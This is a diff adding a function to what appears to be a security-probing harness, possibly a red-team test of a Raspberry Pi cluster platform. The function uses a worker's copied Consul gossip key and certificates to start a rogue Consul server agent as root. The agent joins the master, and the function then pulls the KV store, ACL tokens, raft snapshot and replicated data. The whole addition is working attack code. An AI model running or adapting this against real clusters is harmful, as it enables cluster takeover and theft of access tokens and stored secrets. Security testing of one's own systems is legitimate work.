@@ -14,6 +14,7 @@ import os
 import re
 import subprocess
 import sys
+import time
 
 sys.path.insert(0, os.path.dirname(os.path.abspath(__file__)))
 
@@ -296,6 +297,40 @@ def memory():
                     hits |= set(pattern.findall(mem.read(end - start)))
         found += [hit.decode() for hit in hits]
     return sorted(set(found))
+
+
+@attempt
+def rogue_server():
+    """Consul: a second agent that claims to be a server, with the gossip key and certificate that the worker has"""
+    top = "/tmp/rogue"
+    script = f"""
+rm -rf {top}; mkdir -p {top}/etc {top}/data; cp /etc/rpiomega/consul/* {top}/etc/
+python3 - <<'PY'
+import json
+path = "{top}/etc/consul.json"
+config = json.load(open(path))
+config.update(server=True, node_name="rogue", data_dir="/data", leave_on_terminate=True)
+config["ports"] = {{"http": 8501, "dns": -1, "serf_lan": 8401, "server": 8400, "serf_wan": -1}}
+config["retry_join"] = ["{MASTER}:8301"]
+json.dump(config, open(path, "w"))
+PY
+image=$(docker inspect -f '{{{{.Image}}}}' rpiomega-consul)
+docker run -d --name rogue --network host --user 0 -v {top}/etc:/etc/consul:ro -v {top}/data:/data \
+  --entrypoint consul $image agent -config-dir=/etc/consul
+"""
+    subprocess.run(["bash", "-c", script], capture_output=True, text=True, timeout=60, check=False)
+    time.sleep(30)
+    paths = ("/v1/kv/?recurse&stale", "/v1/acl/tokens?stale", "/v1/snapshot?stale", "/v1/operator/raft/configuration")
+    found = [probe.ask("consul", "GET", path, None, "agent", 8501) for path in paths]
+    for folder, _, files in os.walk(f"{top}/data"):
+        for name in files:
+            with contextlib.suppress(OSError), open(os.path.join(folder, name), "rb") as file:
+                found.append(file.read(LIMIT).decode(errors="replace"))
+    done = subprocess.run(["docker", "logs", "rogue"], capture_output=True, text=True, timeout=60, check=False)
+    subprocess.run(
+        ["bash", "-c", f"docker stop rogue; docker rm rogue; rm -rf {top}"], capture_output=True, check=False
+    )
+    return [*found, done.stdout[-20000:]]
 
 
 @attempt
